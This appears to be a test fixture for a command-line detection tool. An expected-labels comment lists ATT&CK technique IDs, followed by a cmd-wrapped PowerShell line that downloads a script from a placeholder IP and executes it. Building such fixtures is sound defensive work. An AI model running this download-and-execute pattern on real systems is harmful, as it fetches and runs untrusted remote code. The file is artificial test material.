# expect: T1059.003 T1059.001 T1105
$cmd = "iex(irm http://198.51.100.1/z)"
cmd /c "powershell -c $cmd"
